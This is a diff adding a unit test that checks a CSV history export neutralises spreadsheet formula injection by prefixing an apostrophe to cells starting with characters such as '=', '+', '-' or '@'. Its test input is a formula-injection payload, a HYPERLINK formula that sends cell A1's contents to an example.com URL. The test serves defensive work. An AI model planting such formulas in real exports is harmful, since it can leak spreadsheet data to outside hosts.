@@ -160,6 +160,25 @@ describe('historyToCsv', () => {
     expect(asObjects[5]!.break_id).toBe(asObjects[1]!.break_id);
   });
 
+  it('neutralises every text cell a spreadsheet would run as a formula (the OWASP rule)', () => {
+    const title = header.indexOf('routine_title');
+    const id = header.indexOf('routine_id');
+    const base = records[1] as Extract<HistoryRecord, { type: 'break' }>;
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      const text = `${start}HYPERLINK("https://example.com/?"&A1,"Open")`;
+      const written = historyToCsv([{ ...base, routineTitle: text, routineId: `${start}cmd` }]);
+      const [, row] = parseCsv(written);
+      // A leading apostrophe makes the cell text, and the field is always in double quotes.
+      expect(row![title], JSON.stringify(start)).toBe(`'${text}`);
+      expect(row![id], JSON.stringify(start)).toBe(`'${start}cmd`);
+      expect(written).toContain(`"'${text.replaceAll('"', '""')}"`);
+    }
+    // Text that only contains those characters later, and every number, is left as it is.
+    const plain = parseCsv(historyToCsv([{ ...base, routineTitle: 'Desk = reset + more' }]))[1]!;
+    expect(plain[title]).toBe('Desk = reset + more');
+    expect(plain[header.indexOf('duration_ms')]).toBe(String(base.durationMs));
+  });
+
   it('is just the header for an empty history', () => {
     expect(historyToCsv([])).toBe(`${HISTORY_CSV_COLUMNS.map((c) => c.header).join(',')}\r\n`);
   });
